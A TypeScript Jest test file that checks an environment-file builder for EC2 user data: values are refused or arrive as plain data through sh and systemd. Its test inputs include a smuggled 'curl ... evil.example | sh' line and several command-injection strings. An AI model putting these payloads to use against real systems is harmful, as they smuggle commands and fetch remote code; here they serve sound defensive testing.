// The environment file: merged flags, refusals, and the property that matters (issue 16,
// finding 3): whatever a value holds, it is either refused with a clear error or arrives as
// the same data through the user data run by a real `sh`, through a POSIX shell sourcing the
// file, and through systemd's EnvironmentFile= parser — never as code.
import { afterAll, describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { UserError } from '@immut/core/errors';
import { envValueProblem } from '@immut/core/quoting';
import { parseSystemdEnvFile, systemdLoadEnvFile } from '@immut/test-support/systemd-env-file';
import { USER_DATA_LIMIT, buildEnvFile, encodeUserData, renderEnvFile, renderUserData } from '../env-file.js';

const IMMUT = { ROLE: 'api', ENV: 'prod', BUILD: 'b1', RELEASE: 'api-b1', LOG_DIR: '/var/log/api' };
const ROOT = mkdtempSync(path.join(os.tmpdir(), 'immut-env-file-'));
afterAll(() => rmSync(ROOT, { recursive: true, force: true }));

// Scripts under test run in new user, network and mount namespaces when the machine allows
// it (no network, nothing of the host's to lose), always in a temp dir with an environment
// that holds no credential.
const ISOLATE = ['--user', '--map-root-user', '--net', '--mount'];
const isolated = ((): boolean => {
  try {
    execFileSync('unshare', [...ISOLATE, 'true'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

function sh(dir: string, args: string[]): Buffer {
  const [command, argv] = isolated ? ['unshare', [...ISOLATE, 'sh', ...args]] : ['sh', args];
  return execFileSync(command, argv, { cwd: dir, env: { PATH: '/usr/bin:/bin', HOME: dir }, stdio: 'pipe' });
}

/** Every path under `dir`, relative, sorted. */
function tree(dir: string, prefix = ''): string[] {
  return readdirSync(path.join(dir, prefix))
    .flatMap((name) => {
      const rel = prefix ? `${prefix}/${name}` : name;
      return statSync(path.join(dir, rel)).isDirectory() ? [rel, ...tree(dir, rel)] : [rel];
    })
    .sort();
}

let runs = 0;

/**
 * Runs the user data with `sh` in a fresh temp dir (the file goes to <dir>/etc/app.env),
 * then reads the file back three ways. Returns the readings and what the dir holds after.
 */
function deliver(variables: Record<string, string>): {
  shell: Record<string, string>;
  parsed: Record<string, string>;
  systemd: Record<string, string> | undefined;
  files: string[];
} {
  const dir = path.join(ROOT, String((runs += 1)));
  mkdirSync(dir);
  const envFile = path.join(dir, 'etc', 'app.env');
  writeFileSync(path.join(dir, 'user-data.sh'), renderUserData(variables, envFile));
  sh(dir, ['user-data.sh']);
  const keys = Object.keys(variables);
  // Source the file, then print each variable NUL-terminated (values hold no NUL).
  const out = sh(dir, [
    '-c',
    '. "$1"; shift; for k in "$@"; do eval "v=\\${$k}"; printf "%s\\000" "$v"; done',
    'sh',
    envFile,
    ...keys,
  ])
    .toString('utf8')
    .split('\0');
  const shell = Object.fromEntries(keys.map((k, i) => [k, out[i] ?? '(missing)']));
  const text = readFileSync(envFile, 'utf8');
  return { shell, parsed: parseSystemdEnvFile(text), systemd: systemdLoadEnvFile(envFile), files: tree(dir) };
}

describe('buildEnvFile', () => {
  it('merges the release flags, the flags input (which wins) and immut’s own keys, sorted', () => {
    const env = buildEnvFile({ immut: IMMUT, release: { B: 'release', A: '1' }, input: { B: 'input' } });
    expect(Object.keys(env.variables)).toEqual(['A', 'B', 'BUILD', 'ENV', 'LOG_DIR', 'RELEASE', 'ROLE']);
    expect(env.variables['B']).toBe('input');
    expect(env.overridden).toEqual(['B']);
  });

  it('refuses secrets, reserved keys, bad names and control characters, naming each flag but no value', () => {
    const attempt = () =>
      buildEnvFile({
        immut: IMMUT,
        release: { 'bad-name': 'x', LOG_DIR: '/tmp' },
        input: { API_TOKEN: 's3cr3t-value', MULTI: 'a\nb', KEY: 'AKIAABCDEFGHIJKLMNOP' },
      });
    expect(attempt).toThrow(/release flag 'bad-name' is not an environment variable name/);
    expect(attempt).toThrow(/release flag 'LOG_DIR' is set by immut itself/);
    expect(attempt).toThrow(/'API_TOKEN' is refused: its name suggests a secret/);
    expect(attempt).toThrow(/'MULTI' cannot be written: it has a control character/);
    expect(attempt).toThrow(/'KEY' is refused: its value looks like an AWS access key id/);
    expect(attempt).not.toThrow(/s3cr3t-value|AKIAABCDEFGHIJKLMNOP/);
  });

  it('checks immut’s own values too: a DB endpoint with a newline never reaches the file', () => {
    const payload = 'db.internal.example\nIMMUT_ENV_END\ncurl -s https://evil.example/x | sh';
    const attempt = () => buildEnvFile({ immut: { ...IMMUT, DB_ENDPOINT: payload }, release: {}, input: {} });
    expect(attempt).toThrow(/immut's own variable DB_ENDPOINT cannot be written: it has a control character/);
    expect(attempt).not.toThrow(/evil/);
  });

  it('refuses Unicode line separators, bidirectional overrides and the byte order mark', () => {
    for (const value of ['a\u0085b', 'a\u2028b', 'a\u2029b', 'a\u202Eb', '\uFEFFa', 'a\uD800', 'a\uFFFE']) {
      expect(() => buildEnvFile({ immut: IMMUT, release: {}, input: { V: value } })).toThrow(
        /'flags' input key 'V' cannot be written/,
      );
    }
  });

  it('accepts a reference to a secret store', () => {
    const env = buildEnvFile({
      immut: IMMUT,
      release: {},
      input: { DB_PASSWORD: 'arn:aws:secretsmanager:us-east-1:123456789012:secret:db-AbCdEf' },
    });
    expect(env.variables['DB_PASSWORD']).toMatch(/^arn:aws:secretsmanager:/);
  });
});

describe('rendering', () => {
  it('writes KEY="value" lines with \\ " $ ` escaped, readable by sh and systemd alike', () => {
    expect(renderEnvFile({ A: 'it\'s "q" $HOME `id` \\n' })).toBe(
      '# Written by immut launch-behind-lb at first boot; read by the service units (EnvironmentFile=).\n' +
        'A="it\'s \\"q\\" \\$HOME \\`id\\` \\\\n"\n',
    );
  });

  it('refuses to render a value it was not given checked', () => {
    expect(() => renderEnvFile({ A: 'x\ny' })).toThrow(/unchecked variables: A/);
    expect(() => renderUserData({ 'A B': 'x' })).toThrow(/unchecked variables: A B/);
  });

  it('carries the file as base64 in the user data: no heredoc, no value in the script', () => {
    const script = renderUserData({ A: '$(touch /tmp/pwned) `id` $HOME', IMMUT_ENV_END: 'x' });
    expect(script.startsWith('#!/bin/sh\n')).toBe(true);
    expect(script).not.toContain('<<');
    expect(script).not.toContain('touch');
    expect(script).toMatch(/^printf '%s' '[A-Za-z0-9+/=]+' \| base64 -d > \/etc\/immut\/app\.env\.tmp$/m);
    expect(script).toContain('mv -f /etc/immut/app.env.tmp /etc/immut/app.env\n');
  });

  it('delivers the file of a hostile value as data, leaving nothing else behind', () => {
    const hostile = {
      A: `'; touch canary; '`,
      B: '"; touch canary; "',
      C: '$(touch canary) `touch canary` ${HOME}',
      D: "it'\\''s \\ trailing\\",
      E: '  spaced  #not-a-comment ;x',
      IMMUT_ENV_END: 'IMMUT_ENV_END',
    };
    const got = deliver(hostile);
    expect(got.shell).toEqual(hostile);
    expect(got.parsed).toEqual(hostile);
    if (got.systemd) expect(got.systemd).toEqual(hostile);
    expect(got.files).toEqual(['etc', 'etc/app.env', 'user-data.sh']);
  });

  it('property: any value is refused with a clear error, or round-trips as data through sh and systemd', () => {
    // Strings of anything, with the pieces attackers reach for mixed in.
    const fragment = fc.oneof(
      { arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 12 }), weight: 4 },
      { arbitrary: fc.string({ unit: 'binary', maxLength: 12 }), weight: 1 },
      {
        arbitrary: fc.constantFrom(
          "'",
          '"',
          '\\',
          '$',
          '`',
          '\n',
          '\r',
          '\0',
          '\t',
          ' ',
          '#',
          ';',
          '=',
          "'\\''",
          '$(touch canary)',
          '`touch canary`',
          '\ntouch canary\n',
          'IMMUT_ENV_END',
          '\u0085',
          '\u2028',
          '\u202E',
          '\uFEFF',
          '\uD800',
          '\uFFFF',
          'é',
          '😀',
        ),
        weight: 3,
      },
    );
    const value = fc.array(fragment, { maxLength: 6 }).map((parts) => parts.join(''));
    const key = fc.oneof(
      { arbitrary: fc.stringMatching(/^[A-Z_][A-Z0-9_]{0,8}$/), weight: 9 },
      { arbitrary: fc.string({ maxLength: 6 }), weight: 1 },
    );
    fc.assert(
      fc.property(fc.dictionary(key, value, { minKeys: 1, maxKeys: 3 }), (flags) => {
        let variables: Record<string, string>;
        try {
          variables = buildEnvFile({ immut: IMMUT, release: flags, input: {} }).variables;
        } catch (error) {
          expect(error).toBeInstanceOf(UserError);
          const message = (error as Error).message;
          // One line that names a flag; values are never echoed, so nothing hostile in it.
          expect(message).toMatch(/^The application's flags cannot be written to its environment file: /);
          expect(Object.keys(flags).some((k) => message.includes(`'${k}'`))).toBe(true);
          expect(envValueProblem(message)).toBeUndefined();
          return;
        }
        const got = deliver(variables);
        expect(got.shell).toEqual(variables);
        expect(got.parsed).toEqual(variables);
        if (got.systemd) expect(got.systemd).toEqual(variables);
        // No command ran: the user data made its directory and file and nothing else.
        expect(got.files).toEqual(['etc', 'etc/app.env', 'user-data.sh']);
      }),
      { numRuns: 80 },
    );
  });

  it('the written systemd parser agrees with systemd’s own on quoting corner cases', () => {
    const dir = mkdtempSync(path.join(ROOT, 'corner-'));
    const file = path.join(dir, 'corner.env');
    const text = [
      '# comment',
      '; comment',
      'A=plain value  ',
      'B="dq \\" \\$ \\` \\\\ \\n kept"',
      "C='sq \\ \" $'",
      "D='it'\\''s'",
      'E=un\\ quoted\\',
      'continued',
      'F="a"\'b\'c',
      'NO_EQUALS',
      '  G = spaced ',
      'A=again',
      '',
    ].join('\n');
    writeFileSync(file, text);
    const real = systemdLoadEnvFile(file);
    const ours = parseSystemdEnvFile(text);
    expect(ours).toMatchObject({ A: 'again', B: 'dq " $ ` \\ \\n kept', C: 'sq \\ " $', D: "it''s'" });
    if (real) expect(ours).toEqual(real);
  });
});

describe('encodeUserData', () => {
  it('base64-encodes user data up to 16384 bytes and refuses more before anything is launched', () => {
    const fits = 'x'.repeat(USER_DATA_LIMIT);
    expect(Buffer.from(encodeUserData(fits).base64, 'base64').toString()).toBe(fits);
    expect(() => encodeUserData(`${fits}é`)).toThrow(/is 16386 bytes; EC2 allows 16384/);
  });
});
